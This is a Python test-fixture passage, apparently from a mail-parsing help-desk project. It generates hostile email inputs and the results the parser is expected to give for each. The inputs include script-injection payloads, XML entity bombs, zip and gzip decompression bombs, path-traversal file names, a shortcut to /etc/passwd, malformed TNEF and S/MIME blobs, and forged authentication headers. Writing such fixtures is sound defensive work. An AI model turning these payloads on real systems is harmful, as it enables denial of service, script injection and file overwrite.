        yield Hostile(f"name by {name}", "22 names", raw, {"text": ["hello"], "files": [wanted]})


def _contents() -> Iterator[Hostile]:
    """Files that would run if they were opened in our place: kept as they are, never looked into."""
    for name, kind, content in (
        ("a.svg", b"image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("a.html", b"text/html", b"<script>alert(1)</script>"),
        (
            "a.xhtml",
            b"application/xhtml+xml",
            b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
        ),
        ("a.jpg", b"image/jpeg", b"<script>alert(1)</script>"),
        ("a.pdf", b"application/pdf", b"%PDF-1.7 /JS (app.alert(1))"),
        ("a.xml", b"text/xml", b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><l>&b;</l>'),
        ("a.mht", b"multipart/related", b"--x"),
        ("a.url", b"text/plain", b"[InternetShortcut]\nURL=file:///etc/passwd"),
    ):
        raw = mixed(HELLO, attached(b"attachment; filename=" + name.encode(), content, kind))
        yield Hostile(
            f"file {name}", "21 files that run", raw, {"text": ["hello"], "files": [name], "absent": ["alert(1)"]}
        )


def _archives() -> Iterator[Hostile]:
    zeros = bytes(5_000_000)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(20):
            archive.writestr(f"../{number}", zeros)
    bombs = {
        "bomb.zip": (b"application/zip", packed.getvalue()),
        "bomb.gz": (b"application/gzip", gzip.compress(zeros, mtime=0)),
        "bomb.png": (b"image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\xff\xff\xff\xff\xff\x08\x06\0\0\0"),
        "laughs.xml": (b"text/xml", b"<!DOCTYPE l [" + b"".join(
            b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)) + b"]><l>&l9;</l>"),
    }  # fmt: skip
    for name, (kind, content) in bombs.items():
        raw = mixed(HELLO, attached(b"attachment; filename=" + name.encode(), content, kind))
        yield Hostile(name, "23 archives", raw, {"text": ["hello"], "files": [name], "contents": [content]})


def tnef(*attributes: tuple[int, int, bytes]) -> bytes:
    """A stream of level, attribute and data (MS-OXTNEF)."""
    out = [struct.pack("<IH", 0x223E9F78, 1)]
    for level, attribute, data in attributes:
        out.append(struct.pack("<BII", level, attribute, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF))
    return b"".join(out)


def properties(*items: tuple[int, int, bytes]) -> bytes:
    """Type, identifier and value of each property; values of strings and blobs are padded."""
    out = [struct.pack("<I", len(items))]
    for kind, name, value in items:
        out.append(struct.pack("<HH", kind, name))
        if kind in (0x1E, 0x1F, 0x0D, 0x102):
            value = struct.pack("<II", 1, len(value)) + value + bytes(-len(value) % 4)
        out.append(value)
    return b"".join(out)


def _tnef() -> Iterator[Hostile]:
    begins = (2, 0x00069002, bytes(14))
    title, data = (2, 0x00018010, b"letter.txt\0"), (2, 0x0006800F, b"dear all")
    good = tnef((1, 0x0002800C, b"hello from Outlook\0"), begins, title, data)
    rich = properties((0x102, 0x1009, _lzfu(b"{\\rtf1\\ansi\\ansicpg1252 hello Gr\\'fc\\'dfe\\par }")))
    named = properties((0x1F, 0x3707, "Größe.txt\0".encode("utf-16-le")), (0x102, 0x3701, b"content"))
    inner = good
    for _ in range(30):
        inner = tnef(
            begins,
            (2, 0x00069005, properties((0x0D, 0x3701, bytes.fromhex("0703020000000000c000000000000046") + inner))),
        )
    streams: dict[str, tuple[bytes, dict[str, Any]]] = {
        "winmail.dat with a file": (good, {"text": ["hello from Outlook"], "files": ["letter.txt"], "contents": [b"dear all"]}),
        "winmail.dat with rich text": (tnef((1, 0x00069003, rich)), {"text": ["hello Grüße"]}),
        "winmail.dat with a long name": (tnef(begins, title, (2, 0x00069005, named)), {"files": ["Größe.txt"], "contents": [b"content"]}),
        "winmail.dat with HTML": (
            tnef((1, 0x00069003, properties((0x102, 0x1013, b"<p>hello</p><script>alert(1)</script>")))),
            {"text": ["hello"], "absent": ["alert"]}),
        "winmail.dat cut off": (good[:-20], {"problem": "winmail.dat", "text": ["hello from Outlook"]}),
        "winmail.dat of 30 levels": (inner, {"problem": "winmail.dat"}),
        "winmail.dat of 100,000 files": (tnef(*[begins, title] * 50_000), {"problem": "winmail.dat"}),
        "winmail.dat that lies of its length": (good[:6] + struct.pack("<BII", 1, 0x0002800C, 0xFFFFFFFF) + b"hello", {}),
        "winmail.dat of 4,000,000,000 properties": (tnef((1, 0x00069003, b"\xff\xff\xff\xff" + bytes(100))), {}),
        "winmail.dat of endless values": (tnef((1, 0x00069003, struct.pack("<IHHI", 1, 0x101E, 0x1000, 0xFFFFFFFF) + bytes(100_000))), {}),
        "winmail.dat of only a signature": (good[:6], {}),
        "winmail.dat with a path": (tnef(begins, (2, 0x00018010, b"..\\..\\x.exe\0"), data), {"files": ["x.exe"]}),
        "winmail.dat whose text unpacks to gigabytes": (
            tnef((1, 0x00069003, properties((0x102, 0x1009, struct.pack("<III4s", 999, 0xFFFFFFFF, 0, b"LZFu")[0:4] +
                                             struct.pack("<I", 0xFFFFFFFF) + b"LZFu" + bytes(4) + b"\xff\x00\x0f" * 200_000)))), {}),
        "no winmail.dat at all": (b"not TNEF", {"files": ["winmail.dat"]}),
    }  # fmt: skip
    for name, (stream, expect) in streams.items():
        part = attached(b"attachment; filename=winmail.dat", stream, b"application/ms-tnef")
        yield Hostile(name, "23 TNEF", mixed(b"Content-Type: text/plain\r\n\r\n", part), expect)


def _lzfu(rtf: bytes) -> bytes:
    """Compressed RTF of literals only (MS-OXRTFCP)."""
    body = b"".join(b"\0" + rtf[place : place + 8] for place in range(0, len(rtf), 8))
    return struct.pack("<II4sI", len(body) + 12, len(rtf), b"LZFu", 0) + body


def _calendars() -> Iterator[Hostile]:
    def event(lines: bytes) -> bytes:
        calendar = (
            b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n" + lines + b"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
        )
        return mixed(b"Content-Type: text/calendar; charset=utf-8; method=REQUEST\r\n\r\n" + calendar)

    good = (
        b"SUMMARY:Visit\\, floor 3\r\nDTSTART;TZID=Europe/Zurich:20260601T100000\r\nDTEND;TZID=Europe/Zurich:20260601T113000\r\n"
        b'LOCATION:Basel\r\nORGANIZER;CN="Doe; Jane":mailto:jane@x.example\r\nATTENDEE;PARTSTAT=ACCEPTED;CN=Ben:mailto:b@x.example'
    )
    yield from _family(
        "19 calendars",
        {
            "an invitation": (event(good), {"text": [
                "Visit, floor 3", "2026-06-01 10:00 – 11:30 Europe/Zurich", "Basel", "★ Doe; Jane <jane@x.example>", "✓ Ben <b@x.example>"]}),
            "an invitation cut off": (event(good)[:-120], {"text": ["Visit, floor 3"]}),
            "markup in an invitation": (event(b"SUMMARY:<script>alert(1)</script>"), {"absent": ["<script>alert(1)</script></pre>"]}),
            "100,000 attendees": (event(b"SUMMARY:x\r\n" + b"ATTENDEE:mailto:a@x.example\r\n" * 100_000), {"text": ["x"]}),
            "100,000 levels": (event(b"SUMMARY:deep\r\n" + b"BEGIN:VALARM\r\n" * 100_000), {"text": ["deep"]}),
            "a zone that never ends": (event(b"SUMMARY:zone\r\nBEGIN:STANDARD\r\nRRULE:FREQ=SECONDLY\r\nEND:STANDARD"), {"text": ["zone"]}),
            "absurd times": (event(b"SUMMARY:time\r\nDTSTART:99999999T999999Z\r\nDURATION:P9999W"), {"text": ["time"]}),
            "a duration past the end of time": (event(b"SUMMARY:time\r\nDTSTART:99991231T100000Z\r\nDURATION:P9999W"), {"text": ["time"]}),
        },
    )  # fmt: skip


def der(tag: int, *content: bytes) -> bytes:
    body = b"".join(content)
    size = len(body)
    length = bytes([size]) if size < 128 else bytes([0x84]) + size.to_bytes(4, "big")
    return bytes([tag]) + length + body


def signed_blob(inner: bytes) -> bytes:
    """CMS signed-data around `inner`, with nobody's signature (RFC 5652)."""
    data, signed = bytes.fromhex("2a864886f70d010701"), bytes.fromhex("2a864886f70d010702")
    content = der(0x30, der(6, data), der(0xA0, der(4, inner)))
    return der(0x30, der(6, signed), der(0xA0, der(0x30, der(2, b"\1"), der(0x31), content, der(0x31))))


def _sealed() -> Iterator[Hostile]:
    def blob(
        content: bytes, name: bytes = b"smime.p7m", kind: bytes = b"application/pkcs7-mime; smime-type=signed-data"
    ) -> bytes:
        return FROM + b"Subject: x\r\n" + attached(b"attachment; filename=" + name, content, kind)

    inner = b"Content-Type: text/plain; charset=utf-8\r\n\r\nhello inside"
    deep = inner
    for _ in range(60):
        deep = b"Content-Type: application/pkcs7-mime\r\n\r\n" + signed_blob(deep)
    squeezed = der(4, zlib.compress(bytes(50_000_000), 9))
    compressed = der(0x30, der(6, bytes.fromhex("2a864886f70d0109100109")), der(0xA0, der(0x30, der(2, b"\0"), der(0x30), der(
        0x30, der(6, bytes.fromhex("2a864886f70d010701")), der(0xA0, squeezed)))))  # fmt: skip
    signature = b"Content-Type: application/pgp-signature; name=signature.asc\r\n\r\n-----BEGIN PGP SIGNATURE-----"
    yield from _family(
        "23 sealed mail",
        {
            "signed in one blob": (blob(signed_blob(inner)), {"text": ["hello inside"], "seal": "smime-opaque"}),
            "signed, said to be bytes": (blob(signed_blob(inner), kind=b"application/octet-stream"), {"text": ["hello inside"]}),
            "signed and cut off": (blob(signed_blob(inner)[:30]), {"files": ["smime.p7m"]}),
            "signed 60 times": (blob(signed_blob(deep)), {}),
            "signed nothing": (blob(b"0" * 100), {"files": ["smime.p7m"]}),
            "compressed 50 MB": (blob(compressed, b"smime.p7z"), {}),
            "detached": (mixed(HELLO, signature, kind=b"signed"), {"text": ["hello"], "seal": "pgp-signed", "files": ["signature.asc"]}),
            "detached from nothing": (mixed(signature, kind=b"signed"), {}),
            "encrypted": (
                mixed(b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
                      b"Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----", kind=b"encrypted"),
                {"seal": "pgp-encrypted"}),
        },
    )  # fmt: skip


def _claims() -> Iterator[Hostile]:
    """What a sender claims about himself is told on, never believed by the reader."""
    results = b"Authentication-Results: desk.example; dmarc=pass header.from=bank.example"
    yield from _family(
        "16 forged headers",
        {
            "forged results": (plain(results, b"hello"), {"text": ["hello"]}),
            "5,000 results": (plain(b"\r\n".join([results] * 1900), b"hello"), {"text": ["hello"]}),
            "forged verdict": (plain(b"X-Spam-Flag: NO", b"hello"), {"spam": ""}),
            "spam by its filter": (plain(b"X-Spam-Flag: YES", b"hello"), {"spam": "X-Spam-Flag: YES"}),
            "spam by its score": (plain(b"X-MS-Exchange-Organization-SCL: 9", b"hello"), {"spam": "X-Ms-Exchange-Organization-Scl: 9"}),
            "our own headers": (plain(b"X-Guichet-Ticket: 1\r\nX-Priority: 1", b"hello"), {"text": ["hello"]}),
            "an answer by machine": (plain(b"Auto-Submitted: auto-replied", b"hello"), {"auto": "auto-reply"}),
            "commands in the text": (plain(b"Subject: #close", b"/assign @ada\r\n#priority high"), {"text": ["/assign @ada"]}),
        },
    )  # fmt: skip
